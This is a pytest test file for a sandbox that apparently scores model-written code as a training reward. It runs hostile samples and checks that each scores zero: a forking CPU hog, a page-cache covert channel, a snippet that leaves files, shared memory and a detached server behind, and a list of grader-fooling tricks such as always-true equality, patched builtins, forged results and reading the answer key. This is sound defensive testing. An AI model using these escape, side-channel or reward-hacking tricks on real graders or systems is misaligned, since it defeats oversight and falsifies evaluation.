        "huge_output_once": Job("import os\nos.write(1, b'y' * (64 << 20))\n" + ADD, ADD_TESTS),
        "honest_noisy": Job(ADD + "for i in range(1000):\n    print('debug line', i)\n", ADD_TESTS),
        "honest_2_of_3": Job("def add(a, b):\n    return a + b if a else 99\n", ADD_TESTS),
        "cpu_hog": Job(
            _code("""
            import os
            for _ in range(4):
                if os.fork() == 0:
                    os.setsid()
                    while True:
                        pass
            while True:
                pass
        """),
            TESTS,
        ),
        "honest_beside_hog": Job(
            _code("""
            def _work():
                x = 0
                for i in range(12_000_000):
                    x += i % 7
                return x
            WORK = _work()
            def add(a, b):
                return a + b
        """),
            TESTS,
        ),
    }


def _schedule(port: int) -> tuple[list[str], dict[str, Job]]:
    """Round robin on 2 slots: item i runs in slot i % 2. Controls open and close the batch and follow
    every other item in the same slot; the CPU hog and the honest sample beside it run at once."""
    jobs = {**attacks(port, os.getpid()), **specials()}
    order = ["control", "control", "cpu_hog", "honest_beside_hog", "control", "control"]
    rest = [n for n in jobs if n not in ("cpu_hog", "honest_beside_hog")]
    for k in range(0, len(rest), 2):
        order += rest[k : k + 2] + ["control", "control"]
    return order, jobs


@pytest.fixture(scope="module")
def hostile():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    unix_listeners = []
    for path in HOST_SOCKETS:
        s = socket.socket(socket.AF_UNIX)
        s.bind(path)
        os.chmod(path, 0o777)
        s.listen(8)
        s.setblocking(False)
        unix_listeners.append(s)
    with open(ANSWERS, "w") as f:
        json.dump(EXPECTED, f)
    order, jobs = _schedule(listener.getsockname()[1])
    items = [Job(CONTROL, CONTROL_TESTS) if name == "control" else jobs[name] for name in order]
    os.environ["REGIMEN_TEST_SECRET"] = SECRET
    try:
        cfg = SandboxConfig(timeout_s=TIMEOUT_S, wall_timeout_s=WALL_S, memory_mb=256)
        started = time.monotonic()
        results = run_batch(items, workers=2, config=cfg, schedule="round_robin")
        elapsed = time.monotonic() - started
        servers = _children_serving()
        sandbox.shutdown()  # the servers are kept between calls; test_nothing_is_left_behind checks after they go
        connections = 0
        for s in [listener, *unix_listeners]:
            try:
                conn, _ = s.accept()
                connections += 1
                conn.close()
            except BlockingIOError:
                pass
        by_name = {name: r for name, r in zip(order, results) if name != "control"}
        yield {
            "order": order,
            "results": results,
            "by_name": by_name,
            "jobs": jobs,
            "elapsed": elapsed,
            "connections": connections,
            "uid_base": sandbox._default_uid_base(),
            "servers": servers,
        }
    finally:
        os.environ.pop("REGIMEN_TEST_SECRET", None)
        listener.close()
        for s, path in zip(unix_listeners, HOST_SOCKETS):
            s.close()
            os.remove(path)
        for path in [ANSWERS, *HOST_FILES.values()]:
            if os.path.exists(path) and path.startswith(REPO_TESTS):
                os.remove(path)


def _zero(r: SandboxResult) -> None:
    assert r.passed == 0, r
    assert r.fraction == 0.0
    assert r.status in ("ok", "aborted"), r  # the solution's fault, never "infra"


def test_the_page_cache_channel_works_on_the_host(tmp_path):
    """The attack has teeth: outside the sandbox its two primitives set and read a bit that outlives the
    process that set it (on a file of our own here, written and synced, so the kernel may drop its pages
    whenever asked; in the sandbox it is a standard-library file every sample can read)."""
    import subprocess
    import sys

    data = tmp_path / "channel.bin"
    data.write_bytes(os.urandom(256 * 4096))
    os.sync()
    # one bit per file here: the kernel caches a file in folios larger than a page, and drops a folio
    # only when asked for all of it
    channel = PAGE_CACHE_CHANNEL.replace(
        "FILE = os.path.join(os.path.dirname(os.__file__), 'pydoc_data', 'topics.py')", f"FILE = {str(data)!r}"
    )
    channel = channel.replace(
        "os.posix_fadvise(FD, (BASE + i) * 4096, 4096, os.POSIX_FADV_DONTNEED)",
        "os.posix_fadvise(FD, 0, 0, os.POSIX_FADV_DONTNEED)",
    )
    assert channel.count(str(data)) == 1 and "FD, 0, 0," in channel
    probe = channel + "import sys\nput(int(sys.argv[1]), sys.argv[2] == '1')\nprint(get(int(sys.argv[1])))\n"
    reads = [
        subprocess.run(
            [sys.executable, "-I", "-c", probe, "20", v], capture_output=True, text=True, timeout=30
        ).stdout.strip()
        for v in ("1", "0", "1")
    ]
    later = subprocess.run(
        [sys.executable, "-I", "-c", channel + "print(get(20))"], capture_output=True, text=True, timeout=30
    ).stdout.strip()
    assert reads == ["True", "False", "True"] and later == "True"


@needs_isolation
def test_the_page_cache_attack_scores_zero_and_its_calls_are_refused(hostile):
    scores = [hostile["by_name"][f"page_cache_channel_{k}"].passed for k in range(12)]
    assert scores == [0] * 12
    probe = run_tests(
        PAGE_CACHE_CHANNEL
        + _code("""
        import ctypes, errno, mmap
        def refused():
            out = []
            for name, call in [('fadvise', lambda: os.posix_fadvise(FD, 0, 4096, os.POSIX_FADV_WILLNEED)),
                               ('preadv2 RWF_NOWAIT', lambda: os.preadv(FD, [bytearray(1)], 0, os.RWF_NOWAIT)),
                               ('readahead', lambda: ctypes.CDLL(None, use_errno=True).readahead(FD, ctypes.c_long(0), ctypes.c_size_t(4096)))]:
                try:
                    r = call()
                    if r == -1 and ctypes.get_errno() == errno.EPERM:
                        out.append(name)
                except PermissionError:
                    out.append(name)
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mmap.restype = ctypes.c_void_p
            page = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, FD, ctypes.c_long(0))  # PROT_READ, MAP_SHARED: the file's own page
            vec = ctypes.create_string_buffer(1)
            if libc.mincore(ctypes.c_void_p(page), ctypes.c_size_t(4096), vec) == -1 and ctypes.get_errno() == errno.EPERM:
                out.append('mincore')
            return out
    """),
        ["assert refused() == ['fadvise', 'preadv2 RWF_NOWAIT', 'readahead', 'mincore']"],
        timeout_s=5,
    )
    assert probe.passed == 1, probe


@needs_isolation
def test_every_attack_scores_zero(hostile):
    names = list(attacks(0, 0))
    scored = {n: hostile["by_name"][n].passed for n in names}
    assert {n: s for n, s in scored.items() if s} == {}
    for n in names:
        _zero(hostile["by_name"][n])


IN_PROCESS_HARNESS = """
import json, sys
job = json.loads(sys.stdin.read())
ns = {"__name__": "solution"}
exec(job["setup"] or "", ns)
exec(job["code"], ns)
passed = 0
for t in job["tests"]:
    try:
        exec(t, ns)
        passed += 1
    except Exception:
        pass
print("PASSED", passed)
"""
FOOLS_IN_PROCESS = [
    "eq_always_true",
    "eq_int_subclass",
    "eq_truthy_object",
    "eq_float_and_str_subclass",
    "eq_inside_container",
    "patch_builtins_enumerate",
    "patch_builtins_abs",
    "patch_math_isclose",
    "patch_namespace_builtins",
    "patch_sys_modules",
    "define_abs_top_level",
    "define_isclose_top_level",
    "import_patched_isclose",
    "shadow_setup_helper",
    "frame_walk",
    "gc_scan",
    "signal_frame",
    "ctypes_memory_scan",
    "settrace_setprofile",
    "stop_iteration",
]


def test_the_attacks_fool_an_in_process_harness():
    """The suite has teeth: run where the tests share the solution's interpreter (the old design), these
    attacks on a wrong `add` pass tests. (They only fool; none of them touches anything outside.)"""
    import subprocess
    import sys

    jobs = attacks(0, 0)
    fooled = {}
    for name in FOOLS_IN_PROCESS:
        job = jobs[name]
        proc = subprocess.run(
            [sys.executable, "-I", "-c", IN_PROCESS_HARNESS],
            input=json.dumps({"code": job.code, "tests": job.tests, "setup": job.setup}),
            capture_output=True,
            text=True,
            timeout=30,
        )
        lines = [line for line in proc.stdout.splitlines() if line.startswith("PASSED ")]
        fooled[name] = int(lines[-1].split()[1]) if lines else 0
    assert {n: k for n, k in fooled.items() if k == 0} == {}


@needs_isolation
def test_honest_controls_score_one_everywhere(hostile):
    order, results = hostile["order"], hostile["results"]
    controls = [i for i, n in enumerate(order) if n == "control"]
    assert controls[:2] == [0, 1] and controls[-2:] == [len(order) - 2, len(order) - 1]
    for i in controls:
        r = results[i]
        assert (r.passed, r.total, r.error, r.status) == (4, 4, None, "ok"), (i, r)
        assert r.slot == i % 2
    # right after each other item, in the same slot, comes a control
    for i, name in enumerate(order):
        if name != "control" and i + 2 < len(order):
            assert order[i + 2] == "control" and results[i + 2].slot == results[i].slot, (i, name)
    assert all(r.isolated for r in results)


@needs_isolation
def test_batch_is_bounded(hostile):
    # A dozen items use their whole CPU or wall-clock budget (each stopped at it: test_runaway_code_is_stopped),
    # on 2 slots that work side by side: the batch takes its busier slot's items and little else, however
    # loaded the machine is (time a slot spent waiting on the other would add to it).
    busy = [sum(r.duration_s for r in hostile["results"] if r.slot == s) for s in (0, 1)]
    print(f"\nbatch {hostile['elapsed']:.1f}s, slots busy {busy[0]:.1f}s and {busy[1]:.1f}s")
    # one slot after the other would take max(busy) + min(busy)
    assert min(busy) > 0 and hostile["elapsed"] < max(busy) + max(2.0, min(busy) / 2), (hostile["elapsed"], busy)


@needs_isolation
def test_honest_code_scores_its_fraction(hostile):
    res = hostile["by_name"]
    assert res["honest_2_of_3"].tests == [True, True, False] and round(res["honest_2_of_3"].fraction, 3) == 0.667
    assert res["honest_noisy"].passed == 3 and "debug line 999" in res["honest_noisy"].output
    assert res["env_is_minimal"].passed == 3, res["env_is_minimal"]
    assert res["persist_writer"].passed == 5, res["persist_writer"]  # it wrote, and the keyring said EPERM
    assert res["daemon_left_behind"].passed == 3


@needs_isolation
def test_an_honest_sample_beside_a_cpu_hog_scores_one(hostile):
    hog, honest = hostile["by_name"]["cpu_hog"], hostile["by_name"]["honest_beside_hog"]
    assert hog.slot != honest.slot
    _zero(hog)
    assert "CPU time" in (hog.error or ""), hog.error
    # one CPU, not two
    assert hog.cpu_s is not None and hog.cpu_s <= hog.duration_s * 1.15 + 0.1, (hog.cpu_s, hog.duration_s)
    assert honest.passed == 3 and honest.error is None, honest


@needs_isolation
@pytest.mark.parametrize(
    "name", ["infinite_loop", "sleep_forever", "loop_in_test", "fork_bomb", "huge_output", "cpu_hog"]
)
def test_runaway_code_is_stopped(hostile, name):
    r = hostile["by_name"][name]
    _zero(r)
    assert r.duration_s < WALL_S + 5.0, r.duration_s  # the wall cap, and the time to kill and reap


@needs_isolation
def test_early_exits_and_exceptions_score_zero(hostile):
    res = hostile["by_name"]
    for name in (
        "sys_exit_top",
        "os_exit_top",
        "atexit_forge",
        "exit_inside_call",
        "keyboard_interrupt_inside_call",
        "stop_iteration",
    ):
        _zero(res[name])
    assert "failed to load" in res["sys_exit_top"].error and "SystemExit" in res["sys_exit_top"].error
    assert "ended" in res["exit_inside_call"].error


@needs_isolation
def test_output_is_bounded(hostile):
    _zero(hostile["by_name"]["huge_output"])
    for name in ("huge_output", "huge_output_once"):
        r = hostile["by_name"][name]
        assert len(r.output) < SandboxConfig().output_limit + 200
        assert "more bytes of output discarded" in r.output


@needs_isolation
def test_the_host_is_unreachable(hostile):
    res = hostile["by_name"]
    for name in (
        "write_outside",
        "network",
        "host_unix_sockets",
        "escape_syscalls",
        "read_env",
        "kill_parent",
        "kill_everything",
        "read_answer_key",
    ):
        _zero(res[name])
    assert hostile["connections"] == 0  # neither the TCP listener nor the world-writable unix sockets
    assert res["write_scratch"].passed == 1  # scratch writes succeed inside the sandbox's private tmpfs ...
    for path in HOST_FILES.values():  # ... and none of it appears on the host
        assert not os.path.exists(path), path
    os.kill(os.getpid(), 0)  # still here


@needs_isolation
def test_forged_results_score_zero(hostile):
    res = hostile["by_name"]
    for name in (
        "forge_results_every_fd",
        "forge_infra",
        "forge_frames_on_socket",
        "forged_output",
        "forged_then_honest",
        "atexit_forge",
    ):
        _zero(res[name])
        assert res[name].status != "infra"
    assert "PASSED 3/3" in res["forged_output"].output  # printed, and ignored


@needs_isolation
def test_memory_bombs_score_zero(hostile):
    for name in ("memory_bomb", "memory_bomb_grow", "memory_bomb_forked"):
        _zero(hostile["by_name"][name])


@needs_isolation
def test_nothing_is_left_behind(hostile):
    lo, hi = hostile["uid_base"], hostile["uid_base"] + 256
    leftovers = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                uid = os.stat(f"/proc/{pid}").st_uid
            except OSError:
                continue
            if lo <= uid < hi:
                leftovers.append(pid)
    assert leftovers == []
    # the host's root filesystem is still writable (every read-only remount was a bind remount)
    with open("/proc/self/mounts") as f:
        root = [line.split() for line in f if line.split()[1] == "/"]
    assert root and all("rw" in fields[3].split(",") for fields in root)
    # the batch's servers are gone, and so are the cgroups they made (named after each server's pid;
    # other processes on this machine may be scoring with servers of their own at the same time)
    servers = hostile["servers"]
    assert len(servers) >= 2 and not [pid for pid in servers if os.path.exists(f"/proc/{pid}")]
    ours = {f"regimen-sandbox-{pid}" for pid in servers}
    for base in (
        "/sys/fs/cgroup/memory",
        "/sys/fs/cgroup/pids",
        "/sys/fs/cgroup/cpu",
        "/sys/fs/cgroup/cpuacct",
        "/sys/fs/cgroup/unified",
    ):
        for dirpath, dirnames, _ in os.walk(base):
            assert not ours & set(dirnames), dirpath
            if dirpath.count("/") > 8:
                dirnames.clear()


@needs_isolation
def test_run_tests_single():
    r = run_tests(ADD, ADD_TESTS + ["assert add(1, 1) == 3"], timeout_s=3)
    assert (r.passed, r.total, r.error, r.status) == (3, 4, None, "ok")
    r = run_tests("def add(a, b) return", ADD_TESTS, timeout_s=3)
    assert r.passed == 0 and "failed to load" in r.error and "SyntaxError" in r.error
    r = run_tests(ADD, [], timeout_s=3)
    assert (r.passed, r.total) == (0, 0)


@needs_isolation
def test_parallel_batch_keeps_order():
    items = [(f"def f():\n    return {i}\n", [f"assert f() == {i}", f"assert f() == {i + 1}"]) for i in range(24)]
    results = run_batch(items, workers=2, timeout_s=3)
    assert [r.tests for r in results] == [[True, False]] * 24


def test_refuses_without_isolation():
    with pytest.raises(SandboxUnavailable, match="allow_unisolated"):
        run_tests(ADD, ADD_TESTS, config=SandboxConfig(isolation=False))


def test_unisolated_when_explicitly_allowed(caplog):
    """Without namespaces the solution and the judge are still separate processes talking plain data."""
    cfg = SandboxConfig(isolation=False, allow_unisolated=True, timeout_s=1.5, wall_timeout_s=3)
    results = run_batch(
        [
            ("def add(a, b):\n    return a + b if a else 99\n", ADD_TESTS),
            (WRONG + "import sys\nsys.exit(0)\n", ADD_TESTS),
            (
                "import os\nENV = sorted(os.environ)\nCWD = os.getcwd()\n",
                [
                    "assert 'REGIMEN_TEST_SECRET' not in ENV",
                    "import os\nassert os.path.basename(CWD).startswith('regimen-sandbox-')",
                ],
            ),
            ("while True:\n    pass\n", ADD_TESTS),
            ("import builtins\nbuiltins.abs = lambda x: 0\n" + WRONG, ["assert abs(add(1, 2) - 3) < 1e-9"]),
            ("class E:\n    def __eq__(self, o): return True\ndef add(a, b):\n    return E()\n", TESTS),
        ],
        workers=2,
        config=cfg,
    )
    assert [r.passed for r in results] == [2, 0, 2, 0, 0, 0]
    assert not any(r.isolated for r in results)
    assert results[3].status == "aborted" and "timed out" in results[3].error
    assert not [p for p in os.listdir(tempfile.gettempdir()) if p.startswith("regimen-sandbox-")]


def test_verdict_parser():
    ok = verdict(b"loaded\npass 0\nfail 1 AssertionError\ndone 2\njudge-exit 0\n", 2)
    assert (ok["passed"], ok["tests"], ok["status"], ok["error"]) == (1, [True, False], "ok", None)
    assert verdict(b"loadfail SyntaxError: bad\ndone 2\njudge-exit 0\n", 2)["error"].startswith(
        "the solution failed to load"
    )
    gone = verdict(b"loaded\npass 0\nfail 1 SolutionEnded\ngone the solution's process ended\ndone 2\n", 2)
    assert gone["passed"] == 1 and "ended early" in gone["error"]
    for unfinished in (b"loaded\npass 0\npass 1\n", b"loaded\npass 0\npass 1\njudge-exit 137\n", b""):
        r = verdict(unfinished, 2)
        assert r["passed"] == 0 and r["status"] == "aborted", unfinished
    assert "SIGKILL" in verdict(b"loaded\njudge-exit 137\n", 2)["error"]
    assert verdict(b"loaded\npass 0\npass 1\ndone 2\n", 2, timed_out="timed out")["passed"] == 0
    assert verdict(b"infra unshare failed\n", 2)["status"] == "infra"
    for broken in (
        b"loaded\npass 1\npass 0\ndone 2\n",
        b"loaded\npass 0\npass 1\npass 2\ndone 2\n",
        b"loaded\npass 0\npass 1\ndone 2",
    ):
        assert verdict(broken, 2)["status"] == "infra", broken  # only trusted code writes here: a bug, never a score


def test_config_validation():
    with pytest.raises(ValueError):
        SandboxConfig(timeout_s=0)
    with pytest.raises(ValueError):
        SandboxConfig(wall_timeout_s=-1)
    with pytest.raises(TypeError):
        run_batch([("code", "assert True")])  # tests must be a list
    with pytest.raises(TypeError):
        run_batch([{"code": "x", "tests": [], "extra": 1}])
    with pytest.raises(TypeError):
        run_batch([Job("x", ["assert 1"], entry_point="not valid")])
    with pytest.raises(ValueError):
        run_batch([(ADD, ADD_TESTS)], schedule="random")
    assert run_batch([]) == []
    assert SandboxConfig(timeout_s=2).wall_s == 8


def _children_serving() -> list[int]:
    pids = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read()
                with open(f"/proc/{pid}/stat") as f:
                    ppid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            if b"--serve" in cmd and ppid == os.getpid():
                pids.append(int(pid))
    return pids


@needs_isolation
def test_a_dead_server_costs_one_item_not_the_batch():
    import signal
    import threading

    def kill_server() -> None:
        time.sleep(0.6)
        for pid in _children_serving():
            os.kill(pid, signal.SIGKILL)

    killer = threading.Thread(target=kill_server)
    killer.start()
    items = [("import time\ntime.sleep(2)\n" + ADD, ADD_TESTS), (ADD, ADD_TESTS), (ADD, ADD_TESTS[:2])]
    results = run_batch(items, workers=1, timeout_s=3)
    killer.join()
    assert results[0].status == "infra" and results[0].passed == 0
    assert [(r.passed, r.status) for r in results[1:]] == [(3, "ok"), (2, "ok")]
    sandbox.shutdown()
    time.sleep(0.2)
    lo = sandbox._default_uid_base()
    assert not [
        p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{p}") and lo <= _uid(p) < lo + 256
    ]
    assert _children_serving() == []


def _uid(pid: str) -> int:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return -1


LEAVE_BEHIND = f"WORKDIR = {WORKDIR!r}\n" + _code("""
    import ctypes, os, socket, time
    libc = ctypes.CDLL(None, use_errno=True)
    for path in (os.path.join(os.sep, 'tmp', 'left-behind'), WORKDIR + '/left-behind', os.path.join(os.sep, 'dev', 'shm', 'left-behind')):  # the shared places, as the sample sees them
        with open(path, 'w') as f:
            f.write('from an earlier call')
    libc.shmget(0x5EED, 4096, 0o1666)
    if os.fork() == 0:
        os.setsid()
        s = socket.socket(socket.AF_UNIX)
        s.bind('\\0regimen-abstract')
        s.listen(1)
        time.sleep(60)
        os._exit(0)
    time.sleep(0.1)
    def add(a, b):
        return a + b
""")


@needs_isolation
def test_servers_are_kept_between_calls():
    """GRPO calls the reward once per step: the second call with the same limits reuses the servers
    (same processes), a dead one is restarted, another config gets its own, and every sample is still
    fresh (nothing of the first call's samples is visible to the second's). A forked child does not
    touch the parent's servers."""
    sandbox.shutdown()  # servers kept by earlier tests
    cfg = SandboxConfig(timeout_s=3)
    first = run_batch([(LEAVE_BEHIND, TESTS)] * 2, workers=2, config=cfg, schedule="round_robin")
    assert [r.passed for r in first] == [3, 3], first
    servers = sorted(_children_serving())
    assert len(servers) == 2
    again = run_batch([(CONTROL, CONTROL_TESTS)] * 4, workers=2, config=cfg, schedule="round_robin")
    assert [(r.passed, r.slot) for r in again] == [(4, 0), (4, 1), (4, 0), (4, 1)], [
        r.error or r.test_errors for r in again
    ]
    assert sorted(_children_serving()) == servers  # the same server processes
    other = run_batch([(ADD, ADD_TESTS)], workers=2, config=SandboxConfig(timeout_s=2))
    # another config, other servers; these are kept
    assert other[0].passed == 3 and set(servers) < set(_children_serving())
    import signal

    for pid in servers:
        os.kill(pid, signal.SIGKILL)
    deadline = time.monotonic() + 10

    def dying(pid: int) -> bool:  # signalled, not yet a zombie (its memory can be gone before its exit is)
        try:
            return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
        except OSError:
            return False

    while any(dying(pid) for pid in servers):
        assert time.monotonic() < deadline, "SIGKILLed servers still running after 10 s"
        time.sleep(0.05)
    restarted = run_batch([(CONTROL, CONTROL_TESTS)] * 2, workers=2, config=cfg)
    assert [r.passed for r in restarted] == [4, 4], restarted
    assert not set(servers) & set(_children_serving())
    child = os.fork()
    if child == 0:  # the child has none of the parent's servers: it starts its own, and leaves the parent's alone
        try:
            code = 0 if run_batch([(ADD, ADD_TESTS)], workers=1, config=cfg)[0].passed == 3 else 1
        except BaseException:
            code = 2
        os._exit(code)
    deadline = time.monotonic() + 120
    while (done := os.waitpid(child, os.WNOHANG))[0] == 0:
        if time.monotonic() > deadline:  # e.g. a lock some thread of this process held at the fork
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
            raise AssertionError("the forked child did not finish in 120 s")
        time.sleep(0.1)
    status = done[1]
    assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    after = run_batch([(CONTROL, CONTROL_TESTS)] * 2, workers=2, config=cfg)
    assert [r.passed for r in after] == [4, 4], after
    sandbox.shutdown()
    time.sleep(0.2)
    assert _children_serving() == []
